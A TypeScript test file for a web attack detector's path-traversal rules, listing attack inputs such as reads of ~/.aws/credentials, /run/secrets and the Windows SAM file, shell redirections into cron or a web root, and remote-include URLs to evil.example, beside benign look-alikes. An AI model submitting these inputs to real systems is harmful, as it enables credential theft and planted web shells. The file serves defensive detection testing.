/**
 * Files an attacker reads or writes that the traversal readers did not name (docs/detection.md,
 * "Credential stores, dumps and configuration arrays (branch i18-crs, third session)"): credential
 * stores in a home directory, a database dump asked by name, a shell redirection into a system
 * directory, Windows folders written as environment variables, and a remote URL given to a
 * configuration array's path entry. Each attack was missed before this branch (main 32e5f7c);
 * beside each class, the repository files, search text, crash reports and form fields of ordinary
 * traffic stay quiet.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import type { AttackClass } from '../../../node/records/types';
import { at, RELAXED, tx, type Where } from './helpers';

const detector = new AttackDetector(RELAXED);
const classes = (where: Where, v: string): AttackClass[] => [
  ...new Set(detector.detect(tx(at(where, v)))?.hits.map((h) => h.class) ?? []),
];
const classesOf = (target: string): AttackClass[] => [
  ...new Set(detector.detect(tx({ target, headers: [['Host', 'shop.example']] }))?.hits.map((h) => h.class) ?? []),
];

/** [class, value]: each is tested in a query value, a JSON field and a form field. */
const ATTACKS: Array<[string, string]> = [
  ['AWS keys in a home directory', '~/.aws/credentials'],
  ["a cluster's credentials under /home", '/home/ubuntu/.kube/config'],
  ["a registry's credentials under /home", '/home/app/.docker/config.json'],
  ["Docker's hidden folder by an absolute path", '/path/to/.docker/secrets'],
  ["npm's token file", '/home/anna/.npmrc'],
  ['AWS keys on a Windows profile', 'C:\\Users\\anna\\.aws\\credentials'],
  ["a container's mounted secret", '/run/secrets/db_password'],
  ['a database dump compressed for download', 'backup.sql.zip'],
  ['a gzipped dump', 'site.sql.gz'],
  ['a dump named as one', 'db_backup_2024-05-01.sql'],
  ['a dump one folder up', '../backups/mysql.dump'],
  ['a shell redirection into /tmp', '>/tmp/curl'],
  ['a redirection appending to cron', '>> /etc/cron.d/job'],
  ['a redirection of errors into the web root', '2>/var/www/html/s.php'],
  ['win.ini by %SystemRoot%', '%SystemRoot%\\win.ini'],
  ['hosts by %windir%', '%windir%\\system32\\drivers\\etc\\hosts'],
  ['boot.ini by %SystemDrive%', '%SYSTEMDRIVE%\\boot.ini'],
];
for (const [what, v] of ATTACKS) {
  for (const where of ['q', 'json', 'form'] as const) {
    test(`ptrav: ${what} (${where}): ${v}`, () => {
      assert.ok(classes(where, v).includes('ptrav'), `${where} ${v}: ${classes(where, v).join(',')}`);
    });
  }
}

/** A remote URL given to the path entry of a configuration array (register_globals, CRS 931110). */
const INCLUDE_ROOTS: string[] = [
  '/plugins/spamx/BaseAdmin.class.php?_CONF[path]=https://foo.bar',
  '/index.php?_SERVER[DOCUMENT_ROOT]=http://evil.example/',
  '/index.php?GLOBALS[root]=ftp://files.example/x/',
];
for (const target of INCLUDE_ROOTS) {
  test(`ptrav: a configuration array's path entry given a remote URL: ${target}`, () => {
    assert.ok(classesOf(target).includes('ptrav'), target);
  });
}

/** Look-alikes of ordinary traffic, in a query value, a JSON field and a form field. */
const QUIET: Array<[string, string]> = [
  ["a project's Docker folder, relative to its repository", '.docker/php/Dockerfile'],
  ["a project's registry settings, relative", '.docker/config.json'],
  ["a repository's npm settings", 'docs/.npmrc'],
  ['a how-to naming the AWS file in a sentence', 'put your keys in ~/.aws/credentials then run it'],
  ["an application's own settings under a home", '/home/anna/.config/app/settings.json'],
  ["a user's document", '/home/anna/documents/report.pdf'],
  ['a schema in a repository', 'db/schema.sql'],
  ['a migration', 'migrations/001_init.sql'],
  ['a structure dump of a Rails app, by its source name', 'structure.sql'],
  ['an archive of reports', 'backup.zip'],
  ['search text about a restore', 'how to restore backup.sql'],
  ['a quoted reply about a full disk', '> /tmp is full'],
  ['a comparison', '5 > 3'],
  ['a quoted reply', '> quoted reply'],
  ["an application's settings under %APPDATA%", '%APPDATA%\\MyApp\\settings.json'],
  ['a crash report naming a DLL by %windir%', '%windir%\\system32\\ntdll.dll'],
  ["a user's notes under %USERPROFILE%", '%userprofile%\\Documents\\notes.txt'],
  ['a Windows path typed with a Unix command (a CRS false-positive test)', 'C:\\Windows\\System32\\ls'],
  ['a command under System32 without its extension', 'c:/windows/system32/whoami'],
  ['a report on a Windows path', 'C:\\Users\\anna\\Documents\\report.docx'],
];
for (const [what, v] of QUIET) {
  for (const where of ['q', 'json', 'form'] as const) {
    test(`quiet: ${what} (${where}): ${v}`, () => {
      assert.deepEqual(classes(where, v), [], `${where} ${v}`);
    });
  }
}

/** What still counts beside the quiet System32 command: its data folders and files. */
const STILL: string[] = [
  'C:\\Windows\\System32\\config\\SAM',
  'C:\\Windows\\System32\\config',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  'C:\\Windows\\System32\\LogFiles',
  '..\\..\\..\\windows\\system32\\ls',
];
for (const v of STILL) {
  test(`ptrav still: ${v}`, () => {
    assert.ok(classes('q', v).includes('ptrav'), v);
  });
}

/** An entry named as an include root was found before, by its own name, and still is. */
test('ptrav still: an entry named as an include root', () => {
  assert.ok(classesOf('/index.php?path[docroot]=http://evil.example/').includes('ptrav'));
  assert.ok(classesOf('/index.php?config[root_dir]=http://evil.example/').includes('ptrav'));
});

/** Settings forms and nested fields with URLs stay quiet: only private arrays and root names count. */
const QUIET_TARGETS: string[] = [
  '/admin/settings?settings[path]=https://blog.example/',
  '/admin/links?link[path]=https://blog.example/',
  '/account?user[url]=https://anna.example/',
  '/index.php?_CONF[site_name]=https://foo.bar',
  '/index.php?_CONF[path]=includes/',
];
for (const target of QUIET_TARGETS) {
  test(`quiet: ${target}`, () => {
    assert.deepEqual(classesOf(target), [], target);
  });
}

/** The repository browser's request path: a file named in the path is scanner's, not a read. */
test('a repository file in the request path is not ptrav', () => {
  assert.ok(!classesOf('/owner/repo/blob/main/.docker/config.json').includes('ptrav'));
  assert.ok(!classesOf('/owner/repo/blob/main/.npmrc').includes('ptrav'));
});

/** Linear cost on long values of each new reader's alphabet. */
test('the new readers stay linear on long values', () => {
  for (const v of [
    '/' + 'a/'.repeat(20_000) + '.aws',
    '>' + ' '.repeat(50_000) + '/tmp',
    'a_'.repeat(20_000) + '.sql',
    '%windir%' + '\\'.repeat(50_000),
  ]) {
    const t0 = performance.now();
    classes('q', v);
    assert.ok(performance.now() - t0 < 2000, v.slice(0, 20));
  }
});
